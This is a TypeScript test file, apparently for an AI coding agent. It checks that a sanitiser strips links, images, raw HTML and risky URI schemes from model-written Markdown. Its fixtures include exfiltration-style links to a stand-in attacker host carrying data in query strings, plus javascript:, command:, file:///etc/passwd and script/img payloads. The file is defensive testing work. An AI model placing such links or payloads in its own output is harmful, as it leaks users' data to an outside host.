import assert from 'node:assert/strict';
import fc from 'fast-check';
import { marked, type Token, type Tokens } from 'marked';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { readLink } from '../../../../src/agent/links.ts';
import { SafeOutput } from '../../../../src/service/models/safe-output.ts';
import { tries } from '../../../support/thorough.ts';

/** Every address that a reader of the Markdown would make a link of, or load. */
function addresses(markdown: string): string[] {
  const found: string[] = [];
  const look = (tokens: readonly Token[]): void => {
    for (const token of tokens) {
      if (token.type === 'link' || token.type === 'image') found.push((token as Tokens.Link).href);
      if ('tokens' in token && token.tokens) look(token.tokens);
      if (token.type === 'list') for (const item of (token as Tokens.List).items) look(item.tokens);
      if (token.type === 'table') {
        const { header, rows } = token as Tokens.Table;
        for (const cell of [...header, ...rows.flat()]) look(cell.tokens);
      }
    }
  };
  look(marked.lexer(markdown));
  return found;
}

function through(pieces: readonly string[]): string {
  const output = new SafeOutput();
  return pieces.map((piece) => output.add(piece)).join('') + output.end();
}

describe('what a model says is shown without', () => {
  for (const [name, markdown] of [
    ['images', '![a](https://evil.example/x.png?d=1)'],
    ['links', '[a](https://evil.example/?d=1 "t")'],
    ['links in angle brackets', '[a](<https://evil.example/?d=1>)'],
    ['autolinks', '<https://evil.example/?d=1>'],
    ['bare addresses', 'see https://evil.example/?d=1 or www.evil.example/?d=1'],
    ['references', '[a][r] and ![b][r]\n\n[r]: https://evil.example/?d=1'],
    ['links over two lines', '[a\nb](https://evil.example/?d=1)'],
    ['images over two lines', '![a\nb](https://evil.example/?d=1)'],
    ['nested links', '[![a](https://evil.example/1)](https://evil.example/2)'],
    ['nested brackets', '[a [b]](https://evil.example/?d=1)'],
    ['commands', '[a](command:workbench.action.terminal.new) [b](vscode://x/y) [c](javascript:alert%281%29)'],
    ['data', '[a](data:text/html,x) [b](file:///etc/passwd)'],
    ['mail', '[a](mailto:a@evil.example?body=x) mailto:a@evil.example'],
    [
      'links in lists, quotes and tables',
      '> - [a](https://evil.example/1)\n\n| a |\n| - |\n| [b](https://evil.example/2) |',
    ],
    ['escaped ends', '[a\\](https://evil.example/1)](https://evil.example/2)'],
    ['places that are none', '[a](parapet:file?path=..%2Fx) [b](parapet:run?x=1)'],
  ] as const) {
    it(name, () => {
      for (const pieces of [[markdown], [...markdown]]) {
        const shown = through(pieces);
        const left = addresses(shown).filter((address) => readLink(address) === undefined && address !== '');
        assert.deepEqual(
          left.filter((address) => /^[a-z]+:|^\/\/|^www/i.test(address)),
          [],
          shown,
        );
        assert.doesNotMatch(shown.replace(/`[^`]*`/g, ''), /evil\.example\/\?d=1/);
      }
    });
  }

  it('HTML', () => {
    assert.doesNotMatch(
      through(['<img src="https://evil.example/x">', '<script>1</script>']),
      /<(?:img|script)/,
    );
  });

  it('anything else changed: words, code, lists and places stay', () => {
    const markdown =
      '# Title\n\n1. **a** [x.ts:3](parapet:file?path=x.ts&line=3) `if (a[0](b) < c)`\n\n```js\nconst a = b[c](d); // https://example.org?x=1 <b>\n```\n\nEnd, 1 < 2.';
    assert.equal(through([...markdown]), markdown);
  });

  it('code in lists, numbers, comparisons, emphasis and tables changed', () => {
    const markdown =
      '1. *One* and **two** ~~three~~:\n\n   ```py\n   if a[0](b) < "<i>":\n\n       pass\n   ```\n\n| a | b |\n| - | - |\n| `x || y` | 5 > 3 & 2 |\n';
    assert.equal(through([...markdown]), markdown);
  });

  it('what leads nowhere being seen: where a link would have led, without its query', () => {
    assert.equal(
      through(['See [the docs](https://owasp.org/top10?x=1#y), ![logo](a.png).']),
      'See the docs (https\\://owasp.org/top10…), logo (a.png).',
    );
    assert.equal(
      through(['[ https://evil.example/?d=SECRET [x](parapet:file?path=a.ts)\n']),
      '\\[ https\\://evil.example/… [x](parapet:file?path=a.ts)\n',
    );
  });

  it('a block of code that is left open, or indented so that a reader may take it for text', () => {
    assert.equal(through(['```\n[a](b)']), '```\n[a](b)\n```\n');
    assert.equal(
      through(['Text\n    ```\n[a](https://evil.example/)\n    ```\n']),
      'Text\n\n    ```\n    [a](https://evil.example/)\n    ```\n',
    );
  });

  it('more than an answer has, and says so', () => {
    const shown = through(['a'.repeat(200_000), 'b'.repeat(200_000), 'c'.repeat(200_000)]);
    assert.ok(shown.length < 263_000, String(shown.length));
    assert.match(
      shown,
      /b\n\n\*The rest of this answer was left out: it is longer than 262,144 characters\.\*\n$/,
    );
  });

  /** Pieces that begin, end or disguise links, HTML, code and tables, in one mixture and one that is mostly code. */
  const mixtures = {
    everything:
      '[ ] ( ) ! < > ` `` ``` \n \n\n ␠ ␠␠ ␠␠␠␠ \t a \\ : " | -␠ >␠ 1.␠ +␠ ```\n ~~~\n ```js\n ~ ~~ # * _ ** \r | - |\n a|b\n-|-\n ---\n @ $ { } ^ . \0 \u2028 \ud800 www. http: data:x // https://evil.example/ www.evil.example mailto:a@evil.example a@b.co parapet:file?path=a.ts ](parapet:file?path=a.ts) ](https://evil.example/) [x](https://evil.example/) [r] [r]:␠https://evil.example/ <img␠src=x> <b> <!-- & &lt; &colon;',
    code: '` ` `` ``` | a|b \n \n\n \n-|-\n ␠ ␠␠ ␠␠␠ ␠␠␠␠ a * ** _ ~~ \\ \\| [ ]( -␠ >␠ 1.␠ ```\n ␠␠```\n ␠␠␠␠```js\n ~~~\n <img␠src=x> [x](https://evil.example/) https://evil.example/ [y](parapet:file?path=a.ts) [`q`](parapet:file?path=a.ts)',
  };
  for (const [name, mixture] of Object.entries(mixtures)) {
    it(`anything that a reader makes more of than text and links to places, of ${name}, however it is cut`, () => {
      const part = fc.constantFrom(...mixture.split(' ').map((each) => each.replaceAll('␠', ' ')));
      fc.assert(
        fc.property(fc.array(part, { maxLength: 40 }), fc.integer({ min: 1, max: 7 }), (parts, size) => {
          const text = parts.join('');
          const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
          const shown = through(pieces);
          assert.equal(shown, through([text]), 'the same, however it comes');
          for (const html of [marked.parse(shown, { async: false }), asGitHub(shown)])
            assert.deepEqual(unexpected(html), [], `${shown}\n\n${html}`);
        }),
        tries(2_000),
      );
    });
  }
});

/** Another reader of the same language. */
function asGitHub(markdown: string): string {
  return micromark(markdown, {
    extensions: [gfm()],
    htmlExtensions: [gfmHtml()],
    allowDangerousHtml: true,
    allowDangerousProtocol: true,
  });
}

const expectedElements =
  /^(?:p|em|strong|del|code|pre|[uo]l|li|table|thead|tbody|tr|t[hd]|h[1-6]|[hb]r|blockquote|a)$/;

/** Tags of other elements, and of links elsewhere. */
function unexpected(html: string): string[] {
  return [...html.matchAll(/<(\/?)([a-z!?][^\s>/]*)([^>]*)>/gi)].flatMap(
    ([tag, slash, name = '', rest = '']) => {
      const isPlace = slash === '/' || /^ href="parapet:file\?path=a\.ts"$/.test(rest);
      return expectedElements.test(name) && (name !== 'a' || isPlace) ? [] : [tag];
    },
  );
}
